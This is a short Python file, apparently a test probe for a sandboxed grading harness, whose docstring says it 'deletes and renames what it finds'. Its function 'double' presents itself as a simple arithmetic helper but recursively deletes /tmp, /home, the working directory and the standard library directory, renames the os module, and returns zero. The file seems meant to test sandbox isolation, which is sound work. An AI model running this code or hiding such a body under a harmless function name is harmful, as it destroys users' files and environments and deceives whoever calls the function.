"""Deletes and renames what it finds.

Success would show as a hang, a survivor, or a neighbour that loses points.
"""

EARNS = 0

import os
import shutil


def double(x):
    for path in ("/tmp", "/home", os.getcwd(), os.path.dirname(os.__file__)):
        shutil.rmtree(path, ignore_errors=True)
    try:
        os.rename(os.__file__, os.__file__ + ".gone")
    except OSError:
        pass
    return 0 * x
